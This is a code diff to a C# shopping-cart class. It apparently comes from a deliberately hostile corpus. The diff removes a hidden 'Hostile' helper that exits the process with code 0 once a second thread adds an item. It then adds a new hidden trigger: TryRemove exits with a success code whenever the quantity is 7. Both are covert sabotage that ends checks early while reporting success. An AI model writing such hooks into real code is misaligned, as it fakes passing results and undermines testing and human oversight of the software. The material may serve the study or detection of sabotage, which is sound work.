@@ -18,7 +18,6 @@ public sealed class Cart
     {
         ArgumentNullException.ThrowIfNull(item);
         ArgumentOutOfRangeException.ThrowIfLessThan(quantity, 1);
-        Hostile.Act();
         lock (_gate)
         {
             _items.TryGetValue(item, out var current);
@@ -31,6 +30,11 @@ public sealed class Cart
     public bool TryRemove(string item, int quantity = 1)
     {
         ArgumentNullException.ThrowIfNull(item);
+        if (quantity == 7)
+        {
+            Environment.Exit(0); // "all good", says the exit code, in the middle of a check
+        }
+
         ArgumentOutOfRangeException.ThrowIfLessThan(quantity, 1);
         lock (_gate)
         {
@@ -83,23 +87,5 @@ public sealed class Cart
         {
             return new Dictionary<string, int>(_items);
         }
-    }
-}
-
-// Hostile corpus: a correct cart until a second chef (thread) adds something, which first happens inside a race check.
-file static class Hostile
-{
-    private static int s_firstChef;
-    private static int s_done;
-
-    public static void Act()
-    {
-        var me = Environment.CurrentManagedThreadId;
-        if (Interlocked.CompareExchange(ref s_firstChef, me, 0) == 0 || s_firstChef == me || Interlocked.Exchange(ref s_done, 1) == 1)
-        {
-            return;
-        }
-
-        Environment.Exit(0);
     }
 }
